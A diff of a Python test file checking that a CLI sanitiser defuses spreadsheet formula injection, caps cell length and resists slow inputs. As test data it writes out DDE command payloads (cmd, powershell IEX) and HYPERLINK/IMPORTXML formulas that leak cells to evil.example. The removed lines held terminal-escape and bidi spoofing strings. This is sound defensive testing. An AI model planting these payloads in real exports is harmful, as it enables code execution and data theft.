@@ -1,30 +1,12 @@
-"""Text of an attacker on a terminal, in a spreadsheet and in JSON: it is only text."""
+"""Text of an attacker in a cell, of a table or of a spreadsheet: it is only text."""
 
-import json
+import time
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from ops.cli.terminal import csv_cell, json_text, one_line, plain
-
-
-@pytest.mark.parametrize(
-    ("hostile", "shown"),
-    [
-        pytest.param("\x1b[2J\x1b]0;title\x07", "�[2J�]0;title�", id="escape_sequences"),
-        pytest.param("\x9b31mred", "�31mred", id="c1_escape"),
-        pytest.param("a\rb\x08c\0", "a�b�c�", id="overwriting"),
-        pytest.param("user\u202egnp.exe", "user�gnp.exe", id="bidi_override"),
-        pytest.param("a\u2066b\u2069", "a�b�", id="bidi_isolate"),
-        pytest.param("pay\u200bpal", "pay�pal", id="zero_width"),
-        pytest.param("x\U000e0041\U000e007f", "x��", id="tag_characters"),
-        pytest.param("line\nnext\ttab", "line\nnext\ttab", id="lines_and_tabs_are_kept"),
-        pytest.param("👩‍👩‍👧 é 日本", "👩‍👩‍👧 é 日本", id="other_text_is_kept"),
-    ],
-)
-def test_a_terminal_gets_nothing_that_it_obeys(hostile: str, shown: str):
-    assert plain(hostile) == shown
+from ops.cli.terminal import CSV_CELL_CHARS, csv_cell, one_line
 
 
 @given(st.text(st.characters(codec=None)), st.integers(2, 50))
@@ -36,24 +18,51 @@ def test_a_cell_is_one_short_line(text: str, limit: int):
 
 
 @pytest.mark.parametrize(
-    "formula", ["=1+1", "+1", "-1", "@SUM(A1)", " =1", "\t=1", "\n=cmd|' /C calc'!A0"]
+    "formula",
+    [
+        *("=1+1", "+1", "-1", "@SUM(A1)", " =1", "\t=1", "\t\t@x", "\u00a0=1", "\u3000=1"),
+        *(
+            "\n=cmd|' /C calc'!A0",
+            "=cmd|'/C powershell IEX'!A0",
+            "\r\n=1",
+            "\t",
+            "-2+3+cmd|' /C x'!D2",
+        ),
+        *("\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)"),
+        '=HYPERLINK("http://evil.example?leak="&A1,"click")',
+        '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
+    ],
 )
 def test_a_spreadsheet_gets_no_formula(formula: str):
-    assert csv_cell(formula).startswith("'")
+    assert csv_cell(formula).startswith(("'", "\N{REPLACEMENT CHARACTER}"))
 
 
 def test_ordinary_cells_are_left_alone():
     assert csv_cell("a = b") == "a = b"
 
 
-def test_invisible_characters_of_other_planes_are_escaped_as_pairs():
-    assert json_text('"\U000e0041"') == '"\\udb40\\udc41"'
-    assert json.loads(json_text('"\U000e0041"')) == "\U000e0041"
+def test_a_cell_holds_no_more_than_a_spreadsheet_takes():
+    assert len(csv_cell("x" * 1024 * 1024)) == CSV_CELL_CHARS + 1
+    assert len(csv_cell(";=" * 1024 * 1024)) == CSV_CELL_CHARS + 1
 
 
-@given(st.text())
-def test_escaped_json_is_the_same_json(text: str):
-    encoded = json.dumps({"k": text}, ensure_ascii=False)
-    safe = json_text(encoded)
-    assert json.loads(safe) == {"k": text}
-    assert plain(safe) == safe
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ("a;=1+1", "a;'=1+1"),
+        ("a\t@x", "a\t'@x"),
+        ("a\n-1", "a\n'-1"),
+        ("a; =1;b", "a;' =1;b"),
+        ("a=1; b", "a=1; b"),
+    ],
+)
+def test_nothing_within_a_cell_becomes_one(text: str, cell: str):
+    """Where semicolons or tabs part cells, what follows them begins one."""
+    assert csv_cell(text) == cell
+
+
+@pytest.mark.parametrize("sign", [";", "\t", "\n", " ", "=", "\t="])
+def test_a_mebibyte_of_separators_takes_no_time(sign: str):
+    started_s = time.perf_counter()
+    csv_cell(sign * 1024 * 1024)
+    assert time.perf_counter() - started_s < 2
